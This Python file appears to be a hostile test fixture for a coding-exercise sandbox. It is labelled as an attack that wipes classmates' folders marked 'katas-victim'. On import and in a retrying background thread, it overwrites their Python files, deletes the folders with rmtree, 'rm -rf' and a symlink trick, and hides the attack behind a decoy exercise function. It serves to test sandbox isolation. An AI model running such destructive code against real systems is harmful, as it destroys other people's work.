# ruff: noqa
"""Attack 7: delete or edit classmates' folders: chdir, rmtree, os.open(O_TRUNC), a shell,
a symlink, and a thread that waits for the sandbox to switch off (only paths marked
katas-victim)."""

import os
import shutil
import subprocess
import threading
import time
from pathlib import Path


def _victims():
    here = Path(__file__).resolve()
    for top in [here.parents[2], here.parents[3], Path("/tmp")]:
        for depth in ("*", "*/*", "*/*/*", "*/*/*/*"):
            yield from top.glob(f"{depth}katas-victim*")


def _attack():
    for victim in list(_victims()):
        for path in victim.rglob("*.py"):
            try:
                fd = os.open(path, os.O_WRONLY | os.O_TRUNC)
                os.write(fd, b"raise SystemExit('deleted by a classmate')\n")
                os.close(fd)
            except OSError:
                pass
        try:
            os.chdir(victim.parent)
            shutil.rmtree(victim.name)
        except OSError:
            pass
        subprocess.run(["rm", "-rf", str(victim)], capture_output=True)
        try:
            link = Path(os.environ.get("TMPDIR", "/tmp")) / "katas-link"
            link.unlink(missing_ok=True)
            link.symlink_to(victim)
            shutil.rmtree(link / "02_tasks")
        except OSError:
            pass


def _later():
    for _ in range(40):
        time.sleep(0.25)
        _attack()


_attack()
threading.Thread(target=_later, daemon=True).start()


async def two_sleepers(a: float = 10.0, b: float = 5.0) -> float:
    _attack()
    return 0.0
